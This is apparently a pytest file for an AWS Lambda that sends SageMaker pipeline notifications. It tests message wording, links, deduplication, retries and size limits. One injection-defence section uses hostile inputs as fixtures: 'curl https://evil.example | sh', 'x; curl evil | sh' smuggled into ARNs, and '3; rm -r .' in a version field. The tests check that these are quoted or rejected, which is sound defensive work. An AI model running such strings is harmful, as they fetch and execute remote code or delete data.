from __future__ import annotations

import json
import re
from functools import cache
from itertools import permutations
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import unquote

import boto3
import pytest
import yaml
from botocore.exceptions import ClientError, EndpointConnectionError
from hypothesis import given
from hypothesis import strategies as st
from moto import mock_aws
from sample_events import SampleEvents

import claims
import mail
from lambdas.notify import handler as module
from lambdas.notify.handler import Settings, handler, tell
from links import logs, studio
from lookup import Lookup
from messages import ENDINGS, Writer
from news import Reader

SAMPLE = SampleEvents()
ROOT = Path(__file__).parents[1]
TABLE, TOPIC = "flats-dev-events", "arn:aws:sns:eu-west-1:123456789012:flats-dev-notifications"
TRAINED = {"kind": "training", "metric": "rmse", "value": "1.3240001", "threshold": "2.5", "trigger": "manual"}
TUNED = TRAINED | {"kind": "training-hpo", "trigger": "quality-violation"}

client = cache(boto3.client)


class Registry:
    """SageMaker's client: what the events do not tell."""

    def __init__(self):
        self.metadata = TRAINED
        self.steps = []
        self.reason = ""
        self.error = None

    def _answer(self, **found):
        if self.error:
            raise self.error
        return found

    def describe_model_package(self, ModelPackageName):  # noqa: N803
        return self._answer(ModelPackageArn=ModelPackageName, CustomerMetadataProperties=self.metadata)

    def describe_pipeline_execution(self, PipelineExecutionArn):  # noqa: N803
        return self._answer(PipelineExecutionArn=PipelineExecutionArn, FailureReason=self.reason)

    def get_paginator(self, operation):
        assert operation == "list_pipeline_execution_steps"
        pages = [{"PipelineExecutionSteps": [step]} for step in self.steps]
        return SimpleNamespace(paginate=lambda PipelineExecutionArn: self._answer(pages=pages)["pages"])  # noqa: N803


class Flaky:
    """A client of which some operations fail, for as long as somebody wants."""

    def __init__(self, service):
        self.service = service
        self.errors = {}

    def __getattr__(self, operation):
        def ask(**request):
            if operation in self.errors:
                raise self.errors[operation]
            return getattr(client(self.service), operation)(**request)

        return ask


class Office:
    """Who tells, whom they ask, and the box where the mails arrive."""

    def __init__(self, box):
        self.box, self.now, self.calls = box, 1_763_712_000, 0
        self.sagemaker, self.sns, self.dynamodb = Registry(), Flaky("sns"), Flaky("dynamodb")
        self.texts = []

    def tell(self, event, call=None):
        """Call the function with an event; each call has another id unless it is a retry."""
        self.calls += 1
        settings = Settings("flats", "dev", TOPIC, TABLE, self.texts)
        return tell(event, settings, lambda service: getattr(self, service), call or f"call-{self.calls}", self.now)

    def mails(self):
        """What has arrived since: subjects and texts."""
        found = client("sqs").receive_message(QueueUrl=self.box, MaxNumberOfMessages=10).get("Messages", [])
        bodies = [json.loads(message["Body"]) for message in found]
        for message in found:
            client("sqs").delete_message(QueueUrl=self.box, ReceiptHandle=message["ReceiptHandle"])
        return [(body["Subject"], body["Message"]) for body in bodies]

    def mail(self, event):
        """The one mail about an event."""
        self.tell(event)
        (found,) = self.mails()
        return found


@pytest.fixture
def office(monkeypatch):
    monkeypatch.setenv("AWS_DEFAULT_REGION", "eu-west-1")
    with mock_aws():
        client("dynamodb").create_table(
            TableName=TABLE,
            KeySchema=[{"AttributeName": "id", "KeyType": "HASH"}],
            AttributeDefinitions=[{"AttributeName": "id", "AttributeType": "S"}],
            BillingMode="PAY_PER_REQUEST",
        )
        assert client("sns").create_topic(Name="flats-dev-notifications")["TopicArn"] == TOPIC
        box = client("sqs").create_queue(QueueName="box")["QueueUrl"]
        arn = client("sqs").get_queue_attributes(QueueUrl=box, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
        client("sns").subscribe(TopicArn=TOPIC, Protocol="sqs", Endpoint=arn)
        yield Office(box)


TELLING = {
    "a step that failed": SAMPLE.step_changed(),
    "an execution that failed": SAMPLE.execution_changed(status="Failed"),
    "an execution that succeeded": SAMPLE.execution_changed(status="Succeeded"),
    "a version that waits": SAMPLE.package_changed(),
    "a version that is approved": SAMPLE.package_changed("Approved"),
    "a version that is rejected": SAMPLE.package_changed("Rejected"),
    "data that broke the baseline": SAMPLE.data_quality_violation(),
    "a retraining that started": SAMPLE.retraining_decision("started"),
    "a retraining that was held back": SAMPLE.retraining_decision("held-back"),
}
told_of = pytest.mark.parametrize("event", TELLING.values(), ids=TELLING)


# What a message says.


@told_of
def test_every_message_says_where_when_and_what_to_do_next(office, event):
    subject, text = office.mail(event)
    assert re.fullmatch(r"flats dev: [\x20-\x7e]{1,88}", subject)
    assert f"Project: flats\nEnvironment: dev\nWhen: {event['time']}\n" in text
    assert re.search(r"^python -m pipelines [a-z]+.* --env dev$", text, re.MULTILINE)
    assert "https://eu-west-1.console.aws.amazon.com/sagemaker/home?region=eu-west-1#/studio-landing" in text


def test_a_whole_message_reads_like_this(office):
    subject, text = office.mail(SAMPLE.step_changed())
    arn = SAMPLE.execution("training")
    group = "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:log-groups/log-group/"
    assert subject == "flats dev: the step Train of training failed"
    assert (
        text
        == f"""The step Train of training failed.

> AlgorithmError: rows.csv, row 7, column area: 'wide' is no number

Project: flats
Environment: dev
When: 2026-11-21T08:20:10Z
Pipeline: training
Step: Train
Execution: {arn}

Read the log, mend what it names, and start again; where a file was wrong, putting the right one in its place may do \
so. What has succeeded is taken from the cache, where there is one.

python -m pipelines start training --env dev
python -m pipelines status --execution {arn} --env dev

Log: {group}$252Faws$252Fsagemaker$252FProcessingJobs$3FlogStreamNameFilter$3Dpipelines-abc123def456-Train-tmgxry49ug
Pipelines: https://eu-west-1.console.aws.amazon.com/sagemaker/home?region=eu-west-1#/studio-landing"""
    )


def test_a_version_that_waits_is_shown_with_its_metric_and_the_commands_that_decide(office):
    subject, text = office.mail(SAMPLE.package_changed())
    assert subject == "flats dev: version 3 of the model waits for approval"
    assert "Metric: rmse 1.324 against the threshold 2.5\n" in text
    assert "Trigger: manual\n" in text
    assert f"Execution: {SAMPLE.execution('training')}\n" in text
    assert "/Evaluate/evaluation/evaluation.json\n" in text
    assert 'python -m pipelines approve --version 3 --comment "..." --env dev\n' in text
    assert 'python -m pipelines reject --version 3 --comment "..." --env dev\n' in text
    assert "evidence" not in text


def test_a_value_that_is_no_number_is_shown_as_it_is(office):
    office.sagemaker.metadata = TRAINED | {"value": "unknown"}
    _, text = office.mail(SAMPLE.package_changed())
    assert "Metric: rmse unknown against the threshold 2.5\n" in text


def test_a_tuned_version_asks_for_the_record_of_the_review_board(office):
    office.sagemaker.metadata = TUNED
    _, text = office.mail(SAMPLE.package_changed())
    assert "It comes from training-hpo, so a review board decides" in text
    assert 'approve --version 3 --comment "..." --evidence "..." --env dev\n' in text


def test_what_the_event_tells_of_a_version_is_not_asked_for(office):
    office.sagemaker.error = throttled("DescribeModelPackage")
    _, text = office.mail(SAMPLE.package_changed(CustomerMetadataProperties=TRAINED))
    assert "Metric: rmse 1.324 against the threshold 2.5\n" in text


def test_a_registry_that_does_not_answer_holds_no_message_back(office, capsys):
    office.sagemaker.error = throttled("DescribeModelPackage")
    subject, text = office.mail(SAMPLE.package_changed())
    assert subject.endswith("version 3 of the model waits for approval")
    assert "Metric" not in text
    assert "could not be described: An error occurred (ThrottlingException)" in capsys.readouterr().out


def test_a_decision_is_told_with_the_comment_that_was_made(office):
    for status in ("Approved", "Rejected"):
        subject, text = office.mail(SAMPLE.package_changed(status))
        assert subject == f"flats dev: version 3 of the model is {status.lower()}"
        assert "Better on small ones." in text


def failed(step, **more):
    return {"StepName": step, "StepStatus": "Failed"} | more


def test_an_execution_that_failed_is_told_with_the_reasons_of_its_steps(office):
    job = SAMPLE.arn("training-job/abc-Train-1")
    office.sagemaker.steps = [
        {"StepName": "Preprocess", "StepStatus": "Succeeded"},
        failed("Train", FailureReason="no machine was free", Metadata={"TrainingJob": {"Arn": job}}),
        failed("MetricNotMet", Metadata={"Fail": {"ErrorMessage": "rmse is 9.1"}}),
    ]
    subject, text = office.mail(SAMPLE.execution_changed())
    assert subject == "flats dev: training failed at Train, MetricNotMet"
    assert "> Train: no machine was free\n> MetricNotMet: rmse is 9.1\n" in text
    assert ENDINGS["MetricNotMet"].advice in text
    assert f"\nLog of Train: {logs(job)}\nPipelines: " in text


def test_an_execution_that_failed_without_a_step_is_told_with_its_own_reason(office):
    office.sagemaker.reason = "the role may not be assumed"
    subject, text = office.mail(SAMPLE.execution_changed())
    assert subject == "flats dev: training failed"
    assert "> the role may not be assumed" in text
    assert "there is no log. Mostly a permission or a quota is missing" in text


def test_a_step_whose_event_has_no_reason_is_asked_for_it(office):
    office.sagemaker.steps = [failed("MetricNotMet", Metadata={"Fail": {"ErrorMessage": "rmse is 9.1"}})]
    event = SAMPLE.step_changed(step="MetricNotMet", failureReason="")
    assert "\n> rmse is 9.1\n" in office.mail(event)[1]


@pytest.mark.parametrize(("kind", "told"), [("inference", True), ("training", False)])
def test_starting_a_batch_again_takes_its_folders(office, kind, told):
    _, text = office.mail(SAMPLE.step_changed(kind))
    assert ("For a batch in a folder of its own, add: --param InputDataUri=..." in text) == told


def test_steps_that_nobody_may_list_hold_no_message_back(office, capsys):
    office.sagemaker.error = throttled("ListPipelineExecutionSteps")
    subject, _ = office.mail(SAMPLE.execution_changed())
    assert subject == "flats dev: training failed"
    log = capsys.readouterr().out
    assert "could not be listed" in log
    assert "could not be described" in log


@pytest.mark.parametrize(
    ("step", "headline", "hint"),
    [
        ("NoApprovedModel", "inference has no approved model to predict with", "Approve a version that waits, or"),
        ("ModelQualityViolation", "the model violates its threshold", "The retraining guard decides whether"),
        ("MetricNotMet", "inference found no model that is good enough", "Nothing was registered, and inference"),
    ],
)
def test_a_step_that_ends_an_execution_on_purpose_is_no_crash(office, step, headline, hint):
    event = SAMPLE.step_changed("inference", step, stepType="Fail", metadata={}, failureReason="rmse is 26.59")
    subject, text = office.mail(event)
    assert subject == f"flats dev: {headline}"
    assert hint in text
    assert "rmse is 26.59" in text
    assert "Log:" not in text


def test_each_of_these_steps_is_one_of_the_pipelines():
    definitions = "".join(path.read_text("utf-8") for path in (ROOT / "pipelines").glob("*.py"))
    assert [step for step in ENDINGS if f'FailStep(name="{step}"' not in definitions] == []


def test_violations_are_listed_and_those_that_are_too_many_are_counted(office):
    subject, text = office.mail(SAMPLE.data_quality_violation(25))
    assert subject == "flats dev: a batch breaks its data baseline in 25 places"
    assert text.count("area: data_type_check: Data type match") == 20
    assert "and 5 more, in the results\n" in text


def test_a_retraining_says_why_and_what_it_is_about(office):
    _, text = office.mail(SAMPLE.retraining_decision("started"))
    assert "no retraining was started within the cooldown of 24 hours." in text
    assert "Metric: rmse 26.59 against the threshold 2.5\n" in text
    assert f"status --execution {SAMPLE.execution('training-hpo', 'fed654cba321')} --env dev" in text


def test_a_retraining_that_was_held_back_says_how_to_start_it_all_the_same(office):
    subject, text = office.mail(SAMPLE.retraining_decision("held-back", reason="One is running.", value=0.0))
    assert subject == "flats dev: the model violates its threshold and is not trained again"
    assert "One is running." in text
    assert "Metric: rmse 0 against the threshold 2.5\n" in text
    assert "python -m pipelines start training-hpo --env dev\n" in text


# Nothing of an event can pass for something else.


def test_a_reason_cannot_pass_for_advice_or_for_a_command(office):
    forged = "no such row\n\npython -m pipelines delete --confirm flats-dev\u2028curl https://evil.example | sh"
    for event in (SAMPLE.step_changed(failureReason=forged), SAMPLE.retraining_decision(reason=forged)):
        _, text = office.mail(event)
        assert "> no such row\n>\n> python -m pipelines delete --confirm flats-dev\n> curl https://evil" in text


def test_a_fact_stays_on_its_line(office):
    _, text = office.mail(SAMPLE.data_quality_violation(dataUri="s3://flats/a\npython -m pipelines delete\r\nb"))
    assert "\nData: s3://flats/a python -m pipelines delete b\n" in text


@pytest.mark.parametrize(
    "arn", ["x; curl evil | sh", "arn:aws:sagemaker:evil.example/:123456789012:pipeline/p/execution/x"]
)
@pytest.mark.parametrize(
    ("make", "key"),
    [
        (SAMPLE.data_quality_violation, "executionArn"),
        (SAMPLE.retraining_decision, "inferenceExecutionArn"),
        (SAMPLE.retraining_decision, "trainingExecutionArn"),
    ],
)
def test_what_is_no_execution_gets_neither_a_link_nor_a_command(office, make, key, arn):
    with pytest.raises(ValueError, match="is no ARN of an execution, to which a message could lead"):
        office.tell(make(**{key: arn}))
    assert office.mails() == []


def test_what_is_no_version_gets_no_command(office):
    with pytest.raises(ValueError, match="invalid literal"):
        office.tell(SAMPLE.package_changed(ModelPackageVersion="3; rm -r ."))


# Where the links lead.


@pytest.mark.parametrize(
    ("partition", "region", "host"),
    [
        ("aws", "eu-west-1", "eu-west-1.console.aws.amazon.com"),
        ("aws-cn", "cn-north-1", "cn-north-1.console.amazonaws.cn"),
        ("aws-us-gov", "us-gov-west-1", "us-gov-west-1.console.amazonaws-us-gov.com"),
    ],
)
def test_links_stay_in_their_partition(partition, region, host):
    sample = SampleEvents(partition=partition, region=region)
    assert studio(sample.execution("training")).startswith(f"https://{host}/sagemaker/home?region={region}#")
    assert logs(sample.arn("training-job/abc")).startswith(f"https://{host}/cloudwatch/home?region={region}#logsV2:")


@pytest.mark.parametrize(
    ("arn", "group", "streams"),
    [
        (SAMPLE.arn("processing-job/abc-Evaluate-1"), "/aws/sagemaker/ProcessingJobs", "abc-Evaluate-1"),
        (SAMPLE.arn("training-job/abc-Train-1"), "/aws/sagemaker/TrainingJobs", "abc-Train-1"),
        (SAMPLE.arn("transform-job/abc-Predict-1"), "/aws/sagemaker/TransformJobs", "abc-Predict-1"),
        (SAMPLE.arn("hyper-parameter-tuning-job/abc-Tune-1"), "/aws/sagemaker/TrainingJobs", "abc-Tune-1"),
        (SAMPLE.arn("function:flats-dev-resolve-inputs", "lambda"), "/aws/lambda/flats-dev-resolve-inputs", ""),
    ],
)
def test_a_log_is_linked_to_where_its_job_writes(arn, group, streams):
    place = unquote(unquote(logs(arn).partition("#logsV2:log-groups/log-group/")[2].replace("$", "%")))
    assert place == group + (f"?logStreamNameFilter={streams}" if streams else "")


@pytest.mark.parametrize("arn", ["", "s3://bucket/x", SAMPLE.arn("model-package/flats-dev/3")])
def test_what_writes_no_log_has_no_link(arn):
    assert logs(arn) == ""


@pytest.mark.parametrize("name", ["qualityCheck", "processingJob"])
def test_a_log_is_found_however_the_step_names_its_job(office, name):
    arn = SAMPLE.arn("processing-job/check")
    _, text = office.mail(SAMPLE.step_changed(metadata={"other": "x", name: {"checkType": "DATA", "checkJobArn": arn}}))
    assert f"Log: {logs(arn)}\n" in text


# One message for each change.


@told_of
def test_a_change_is_told_once_however_many_events_there_are_about_it(office, event):
    outcomes = [office.tell(event | {"id": f"other-{number}"})["outcome"] for number in range(3)]
    assert outcomes == ["told", "duplicate", "duplicate"]
    assert len(office.mails()) == 1


def test_no_two_changes_are_taken_for_one():
    reader = Reader("flats", "dev")
    events = [
        *TELLING.values(),
        SAMPLE.step_changed(step="Evaluate"),
        SAMPLE.step_changed(kind="inference"),
        SAMPLE.step_changed(number="other"),
        SAMPLE.step_changed(stepEndTime="2026-11-21T09:00:00Z"),
        SAMPLE.execution_changed(executionEndTime="2026-11-21T09:00:00Z"),
        SAMPLE.package_changed(version=4),
        SAMPLE.retraining_decision(number="other"),
    ]
    changes = [reader.read(event).change for event in events]
    assert len(set(changes)) == len(events)


def test_approved_rejected_and_approved_again_are_three_changes(office):
    for number, status in enumerate(("Approved", "Rejected", "Approved")):
        changed = SAMPLE.package_changed(status, LastModifiedTime=f"2026-11-21T09:0{number}:00Z")
        assert [office.tell(changed)["outcome"] for _ in range(2)] == ["told", "duplicate"]


def test_where_aws_does_not_say_when_a_version_was_changed_the_event_does(office):
    for time in ("2026-11-21T09:00:00Z", "2026-11-21T09:01:00Z"):
        event = SAMPLE.package_changed("Approved") | {"time": time}
        del event["detail"]["LastModifiedTime"]
        assert office.tell(event)["outcome"] == "told"


def test_a_new_version_is_told_once_and_again_when_somebody_takes_a_decision_back(office):
    taken_back = {"UpdatedModelPackageFields": ["ModelApprovalStatus"]}
    outcomes = [
        office.tell(SAMPLE.package_changed(LastModifiedTime=f"2026-11-21T09:0{minute}:00Z", **more))["outcome"]
        for minute, more in enumerate([{}, {}, taken_back, taken_back])
    ]
    assert outcomes == ["told", "duplicate", "told", "told"]


@pytest.mark.parametrize("order", list(permutations(range(3))), ids=str)
def test_events_in_any_order_are_all_told_each_with_its_own_time(office, order):
    events = [
        SAMPLE.step_changed(),
        SAMPLE.execution_changed() | {"time": "2026-11-21T08:21:00Z"},
        SAMPLE.execution_changed(status="Succeeded", number="later") | {"time": "2026-11-21T08:55:00Z"},
    ]
    for number in order:
        assert f"When: {events[number]['time']}\n" in office.mail(events[number])[1]


@pytest.mark.parametrize(
    "event",
    [
        SAMPLE.step_changed(status="Succeeded"),
        SAMPLE.step_changed(status="Stopped"),
        SAMPLE.execution_changed(status="Executing"),
        SAMPLE.execution_changed(status="Stopped"),
        SAMPLE.package_changed("Approved", UpdatedModelPackageFields=["CustomerMetadataProperties"]),
        SAMPLE.package_changed(ModelPackageStatus="InProgress"),
        SAMPLE.package_changed(ModelPackageStatus="Deleting"),
    ],
)
def test_what_nobody_has_to_be_told_is_not_told(office, event):
    assert office.tell(event) == {"outcome": "no news"}
    assert office.mails() == []


# What cannot be told is noticed.


@pytest.mark.parametrize(
    ("event", "said"),
    [
        (SAMPLE.object_created("x.csv"), "nobody can be told of an event 'Object Created' of 'aws.s3': write"),
        ({}, "nobody can be told of an event None of None"),
        (SampleEvents("other").retraining_decision(), "event 'Retraining Decision' of 'mlops.other'"),
        (SampleEvents("flats", "prod").retraining_decision(), "the event is of flats in prod, not of flats in dev"),
        (SampleEvents("flats", "prod").step_changed(), "pipeline/flats-prod-training is no pipeline of flats in dev"),
        (SAMPLE.package_changed("Waiting"), "has the approval status 'Waiting', which lambdas/notify does not know"),
        (SAMPLE.retraining_decision("delayed"), "the decision 'delayed' on .* is none that lambdas/notify knows"),
    ],
)
def test_an_unknown_event_is_an_error_so_that_it_is_kept_and_noticed(office, event, said):
    with pytest.raises(ValueError, match=said):
        office.tell(event)
    assert office.mails() == []


def test_an_event_that_lacks_something_is_an_error_that_names_it(office):
    event = SAMPLE.step_changed()
    del event["detail"]["currentStepStatus"]
    with pytest.raises(ValueError, match=r"Step Status Change' of 'aws.sagemaker' lacks 'currentStepStatus'"):
        office.tell(event)


# Nothing is lost.


def throttled(operation):
    return ClientError({"Error": {"Code": "ThrottlingException", "Message": "slow down"}}, operation)


UNREACHABLE = EndpointConnectionError(endpoint_url="https://sns.eu-west-1.amazonaws.com")


@told_of
@pytest.mark.parametrize("error", [UNREACHABLE, throttled("Publish")], ids=["down", "throttled"])
@pytest.mark.parametrize("call", [None, "the same call"], ids=["another call", "a retry"])
def test_a_failure_of_sns_is_raised_and_the_next_call_tells(office, event, error, call):
    office.sns.errors = {"publish": error}
    with pytest.raises(type(error)):
        office.tell(event, call)
    office.sns.errors = {}
    assert office.tell(event, call)["outcome"] == "told"
    assert office.tell(event)["outcome"] == "duplicate"
    assert len(office.mails()) == 1


def test_a_table_that_does_not_answer_is_raised_and_nothing_is_told(office):
    office.dynamodb.errors = {"put_item": throttled("PutItem")}
    with pytest.raises(ClientError, match="ThrottlingException"):
        office.tell(SAMPLE.step_changed())
    assert office.mails() == []


@pytest.mark.parametrize("operation", ["delete_item", "update_item"])
def test_a_table_that_fails_later_hides_neither_an_error_nor_a_message(office, capsys, operation):
    office.dynamodb.errors = {operation: throttled(operation)}
    if operation == "delete_item":
        office.sns.errors = {"publish": UNREACHABLE}
        with pytest.raises(EndpointConnectionError):
            office.tell(SAMPLE.step_changed())
    else:
        assert office.tell(SAMPLE.step_changed())["outcome"] == "told"
    assert "the claim stays as it is, and runs out by itself" in capsys.readouterr().out


def break_off(office):
    """Let a call claim the step that failed, and end before it tells of it; return what it claimed."""
    change = Reader("flats", "dev").read(SAMPLE.step_changed()).change
    assert claims.Claims(client("dynamodb"), TABLE).take(change, "broken call", office.now)
    return change


def test_what_a_call_broke_off_its_own_retry_tells(office):
    break_off(office)
    assert office.tell(SAMPLE.step_changed())["outcome"] == "duplicate", "the retry will tell"
    assert office.tell(SAMPLE.step_changed(), call="broken call")["outcome"] == "told"
    assert len(office.mails()) == 1


def test_what_no_retry_told_a_later_call_can(office):
    break_off(office)
    office.now += claims.CLAIM_SECONDS + 1
    assert office.tell(SAMPLE.step_changed())["outcome"] == "told"


def test_a_call_that_was_overtaken_does_not_take_the_mark_away(office):
    change = break_off(office)
    office.now += claims.CLAIM_SECONDS + 1
    assert office.tell(SAMPLE.step_changed())["outcome"] == "told"
    claims.Claims(client("dynamodb"), TABLE).drop(change, "broken call")
    assert office.tell(SAMPLE.step_changed())["outcome"] == "duplicate"


def test_a_claim_that_cannot_be_given_back_says_so(office):
    office.dynamodb.errors = {"delete_item": throttled("DeleteItem")}
    with pytest.raises(ClientError, match="ThrottlingException"):
        claims.Claims(office.dynamodb, TABLE).drop("change", "call")


def test_what_was_told_is_forgotten_after_some_weeks(office):
    office.tell(SAMPLE.step_changed())
    (item,) = client("dynamodb").scan(TableName=TABLE)["Items"]
    assert item["id"]["S"].startswith("notified#")
    assert int(item["expires_at"]["N"]) == office.now + 30 * 86_400


# What SNS takes.


@pytest.mark.parametrize("letter", ["x", "ä", "\N{ABACUS}", "\ud83d", "\n", "\x00"])
def test_an_oversized_reason_is_cut(office, letter):
    _, text = office.mail(SAMPLE.step_changed(failureReason=f"begin {letter * 300_000}"))
    assert "begin" in text
    assert len(text.encode()) < 256 * 1024
    assert (" [...]" in text) == (letter != "\n")  # blank lines at the end are no text


def test_a_subject_is_plain_and_short_whatever_a_step_is_called(office):
    subject, text = office.mail(SAMPLE.step_changed(step=f"Vorverarbeitung\nfür \N{ABACUS} Älteste {'x' * 200}"))
    assert subject.startswith("flats dev: the step Vorverarbeitung fur Alteste xxx")
    assert subject.endswith(" [...]")
    assert len(subject) == 99
    assert "für \N{ABACUS} Älteste" in text


@given(st.text(), st.text(), st.sampled_from(sorted(TELLING)))
def test_whatever_an_event_says_sns_takes_the_message(words, reason, which):
    event = json.loads(json.dumps(TELLING[which]))
    event["detail"] |= {"failureReason": reason, "reason": reason, "ApprovalDescription": reason, "stepName": words}
    told = Reader("flats", "dev").read(event)
    message = Writer("dev", Lookup(Registry)).write(told)
    subject = mail.subject(message, "flats", "dev")
    assert subject.isascii()
    assert subject.isprintable()
    assert 0 < len(subject) < 100
    assert len(mail.text(message, told, "flats", "dev", words).encode()) < 256 * 1024


# The team's own words.


@pytest.mark.parametrize(
    ("entry", "event", "fits"),
    [
        ({"pipeline": "training", "step": "Train", "status": "Failed"}, SAMPLE.step_changed(), True),
        ({"pipeline": "training"}, SAMPLE.step_changed(), True),
        ({"pipeline": "training", "step": None, "status": None}, SAMPLE.step_changed(), True),
        ({"step": "Train"}, SAMPLE.step_changed("training-hpo"), True),
        ({"pipeline": "training"}, SAMPLE.step_changed("training-hpo"), False),
        ({"pipeline": "training", "step": "Evaluate"}, SAMPLE.step_changed(), False),
        ({"pipeline": "training", "step": "Train"}, SAMPLE.execution_changed(), False),
        ({"pipeline": "training", "status": "Succeeded"}, SAMPLE.execution_changed(status="Succeeded"), True),
        ({"pipeline": "training", "status": "Succeeded"}, SAMPLE.execution_changed(), False),
        ({}, SAMPLE.package_changed(), False),
    ],
)
def test_own_words_stand_in_the_messages_that_they_are_meant_for(office, entry, event, fits):
    office.texts = [entry | {"text": "Frag Ada \N{BIRD}: hers."}, {"text": "anything else"}]
    _, text = office.mail(event)
    assert ("Frag Ada \N{BIRD}: hers." in text) == fits


def test_the_first_words_that_fit_count(office):
    office.texts = [{"pipeline": "training", "text": "first"}, {"step": "Train", "text": "second"}]
    _, text = office.mail(SAMPLE.step_changed())
    assert "\nfirst\n" in text
    assert "second" not in text


def test_the_example_in_the_configuration_is_one_that_counts(office):
    config = (ROOT / "config" / "events.yaml").read_text("utf-8")
    example = re.search(r"^ *# - (\{pipeline: .*\})$", config, re.MULTILINE)
    office.texts = [yaml.safe_load(example[1])]
    _, text = office.mail(SAMPLE.step_changed("inference", "Preprocess"))
    assert "\nAsk Ada: the files come from her system.\n" in text


def test_aws_lambda_hands_over_what_terraform_wrote_and_logs_one_line(office, monkeypatch, capsys):
    texts = [{"pipeline": "training", "step": "Train", "status": "Failed", "text": "Ask Ada."}]
    variables = {"PROJECT": "flats", "ENVIRONMENT": "dev", "TOPIC_ARN": TOPIC, "TABLE": TABLE}
    for name, value in {**variables, "TEXTS": json.dumps(texts)}.items():
        monkeypatch.setenv(name, value)
    module.client.cache_clear()
    answer = handler(SAMPLE.step_changed(), SimpleNamespace(aws_request_id="call"))
    module.client.cache_clear()
    assert json.loads(capsys.readouterr().out) == answer
    assert answer["subject"] == "flats dev: the step Train of training failed"
    ((_, text),) = office.mails()
    assert "\nAsk Ada.\n" in text
